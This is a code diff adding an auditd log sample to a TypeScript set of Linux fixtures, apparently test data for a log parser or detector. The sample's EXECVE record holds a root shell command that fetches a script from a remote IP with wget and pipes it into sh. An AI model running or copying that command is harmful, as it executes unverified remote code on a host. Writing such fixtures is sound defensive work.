@@ -67,6 +67,19 @@ export const LINUX_SAMPLES: readonly Sample[] = [
   },
   {
     ...SHELL,
+    name: "ausearch, interpreted",
+    schema: "auditd",
+    says: [...SHELL.says, "ops"],
+    documents: lines(
+      [
+        "----",
+        `type=EXECVE msg=audit(03/04/2025 05:06:07.000:71) : argc=3 a0=bash a1=-c a2=wget -q 203.0.113.4/k | sh `,
+        `type=SYSCALL msg=audit(03/04/2025 05:06:07.000:71) : arch=x86_64 syscall=execve success=yes exit=0 ppid=10 pid=11 auid=ops uid=root gid=root tty=pts1 ses=8 comm=bash exe=/usr/bin/bash key=(null) `,
+      ].join("\n"),
+    ),
+  },
+  {
+    ...SHELL,
     name: "laurel",
     schema: "laurel",
     says: [...SHELL.says, "web-9"],
